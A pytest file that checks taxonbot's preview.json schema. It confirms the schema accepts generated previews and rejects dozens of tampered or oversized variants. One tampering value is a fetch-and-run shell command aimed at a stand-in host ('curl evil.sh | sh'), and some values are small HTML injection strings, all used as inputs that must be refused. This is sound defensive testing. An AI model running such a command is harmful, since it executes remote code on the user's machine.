"""schemas/preview.json, from the comment job's side: preview.json arrives as an artifact of a job
that ran contributor content, so anything outside the shape report.py writes is refused."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from taxonbot.runtime.choice import ModelChoice
from taxonbot.schemas import load, validator
from taxonbot.sdg.pipeline import Budget, load_pipeline, run_leaf
from taxonbot.sdg.replies import SCALES
from taxonbot.sdg.report import seed_facts, write_preview
from taxonbot.sdg.sample import Seed
from taxonbot.sdg.session import LeafOutcome

from .fakes import context_for, fake_model, haiku_job

PREVIEW_SCHEMA = "https://taxonbot.dev/schemas/preview.json"
CHOICE = ModelChoice(
    requested="qwen2.5-coder-1.5b",
    name="smollm2-135m",
    source="bundled",
    reason="qwen2.5-coder-1.5b is not fetched; `taxonbot model fetch qwen2.5-coder-1.5b` does",
    licence="Apache-2.0",
    judges={"pair_rating": 0.55},
)
JUDGES = {
    "question_quality": {"status": "skipped", "auc": 0.52},
    "pair_rating": {"status": "uncalibrated", "auc": None},
}


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A preview with a finished leaf (one pair rejected) and a leaf that could not run."""
    model = fake_model(pair_rating=["3", "hmm"])
    ctx = context_for(haiku_job(), model)
    run = run_leaf(load_pipeline("freeform_skills"), ctx, Budget(pairs=2))
    setattr(run, "judges", JUDGES)  # noqa: B010 - what the pipeline records, fixed here
    outcomes = [LeafOutcome("a/qna.yaml", run), LeafOutcome("b/qna.yaml", error="bad YAML")]
    out = tmp_path_factory.mktemp("preview")
    write_preview(out, outcomes, model, Budget(pairs=2), seed=3, choice=CHOICE.record())
    body: dict[str, Any] = json.loads((out / "preview.json").read_text(encoding="utf-8"))
    return body


def problems(body: dict[str, Any]) -> list[str]:
    return [e.message for e in validator(PREVIEW_SCHEMA).iter_errors(body)]


def test_what_report_py_writes_is_valid(good: dict[str, Any]) -> None:
    assert problems(good) == []
    assert [leaf["status"] for leaf in good["leaves"]] == ["complete", "error"]


def test_the_preview_records_which_model_ran_why_and_how_its_judges_stand(
    good: dict[str, Any],
) -> None:
    assert good["model_choice"] == CHOICE.record()
    ran, failed = good["leaves"]
    assert ran["judges"] == JUDGES
    assert set(ran["seeds"]) == {"examples", "with_context", "alike"}
    assert ran["seeds"]["examples"] == len(haiku_job().seeds)
    assert "seeds" not in failed and "judges" not in failed


def test_an_older_preview_without_the_new_fields_is_still_valid(good: dict[str, Any]) -> None:
    body = copy.deepcopy(good)
    del body["model_choice"]
    for leaf in body["leaves"]:
        leaf.pop("seeds", None)
        leaf.pop("judges", None)
        for pair in leaf["pairs"]:
            pair.pop("signals", None)
            pair.pop("rank", None)
    assert problems(body) == []
    assert problems(body | {"model_choice": None}) == []


def test_seed_facts_count_examples_contexts_and_near_repeats_by_the_check_rule() -> None:
    seeds = [
        Seed("Write a haiku about hail on a tin roof.", "a"),
        Seed("Write a haiku about hail on a tin roof!", "b"),  # the same words
        Seed("Write a short haiku about hail on a tin roof.", "c"),  # one word more
        Seed("Write a haiku about hail on a tin roof.", "d", context="Minutes."),  # other context
        Seed("Describe fog over the harbour at dawn.", "e"),
    ]
    assert seed_facts(seeds) == {"examples": 5, "with_context": 1, "alike": 2}
    assert seed_facts([]) == {"examples": 0, "with_context": 0, "alike": 0}


Tamper = Callable[[dict[str, Any]], object]
TAMPERING: dict[str, Tamper] = {
    "unknown top-level key": lambda b: b.update(run="curl evil.sh | sh"),
    "unknown pair key": lambda b: b["leaves"][0]["pairs"][0].update(html="<img src=x>"),
    "other format": lambda b: b.update(format="taxonbot-preview/2"),
    "huge answer": lambda b: b["leaves"][0]["pairs"][0].update(answer="a" * 20_001),
    "huge judge reply": lambda b: b["leaves"][0]["pairs"][0]["judge_replies"].update(
        pair_rating="9" * 201
    ),
    "too many pairs": lambda b: b["leaves"][0]["pairs"].extend(b["leaves"][0]["pairs"] * 600),
    "unknown status": lambda b: b["leaves"][0].update(status="merged"),
    "error leaf with pairs": lambda b: b["leaves"][1]["pairs"].append(b["leaves"][0]["pairs"][0]),
    "error leaf with a pipeline": lambda b: b["leaves"][1].update(
        pipeline=b["leaves"][0]["pipeline"]
    ),
    "finished leaf without seconds": lambda b: b["leaves"][0].pop("seconds"),
    "block name with markup": lambda b: b["leaves"][0]["pairs"][0].update(rejected_by="<b>x</b>"),
    "score off every scale": lambda b: b["leaves"][0]["pairs"][0]["scores"].update(pair_rating=7),
    "negative count": lambda b: b["stats"].update(requests=-1),
    "not a hash": lambda b: b.update(templates_sha256="latest"),
    "model fact that is not text": lambda b: b["model"].update(n_ctx=4096),
    "missing stats": lambda b: b.pop("stats"),
    "model choice of another source": lambda b: b["model_choice"].update(source="pypi"),
    "model choice with an unknown key": lambda b: b["model_choice"].update(url="x"),
    "model choice without a name": lambda b: b["model_choice"].update(name=""),
    "huge fallback reason": lambda b: b["model_choice"].update(reason="r" * 2001),
    "licence that is no SPDX id": lambda b: b["model_choice"].update(licence="<b>MIT</b>"),
    "judge AUC above 1": lambda b: b["model_choice"]["judges"].update(pair_rating=1.5),
    "judge AUC as text": lambda b: b["leaves"][0]["judges"]["pair_rating"].update(auc="0.9"),
    "judge status unknown": lambda b: b["leaves"][0]["judges"]["pair_rating"].update(
        status="trusted"
    ),
    "judge name with markup": lambda b: b["leaves"][0]["judges"].update(
        {"<img>": {"status": "used", "auc": None}}
    ),
    "judge entry with extra key": lambda b: b["leaves"][0]["judges"]["pair_rating"].update(
        verdict="good"
    ),
    "seed count negative": lambda b: b["leaves"][0]["seeds"].update(alike=-1),
    "seed facts with extra key": lambda b: b["leaves"][0]["seeds"].update(text="x"),
    "signal off its scale": lambda b: b["leaves"][0]["pairs"][0].update(signals={"novelty": 2}),
    "signal as text": lambda b: b["leaves"][0]["pairs"][0].update(signals={"novelty": "high"}),
    "too many signals": lambda b: b["leaves"][0]["pairs"][0].update(
        signals={f"s{i}": 0.5 for i in range(17)}
    ),
    "rank zero": lambda b: b["leaves"][0]["pairs"][0].update(rank=0),
    "rank as text": lambda b: b["leaves"][0]["pairs"][0].update(rank="1"),
}


@pytest.mark.parametrize("tamper", TAMPERING.values(), ids=TAMPERING.keys())
def test_a_tampered_or_oversized_preview_is_refused(good: dict[str, Any], tamper: Tamper) -> None:
    body = copy.deepcopy(good)
    tamper(body)
    assert problems(body)


def test_the_score_cap_follows_the_judging_scales() -> None:
    pair = load(PREVIEW_SCHEMA)["$defs"]["pair"]["properties"]
    allowed = pair["scores"]["additionalProperties"]
    assert allowed["minimum"] == min(low for low, _ in SCALES.values())
    assert allowed["maximum"] == max(high for _, high in SCALES.values())


def test_the_schema_is_where_the_comment_job_looks_for_it() -> None:
    path = Path(__file__).resolve().parents[2] / "schemas" / "preview.json"
    assert json.loads(path.read_text(encoding="utf-8"))["$id"] == PREVIEW_SCHEMA
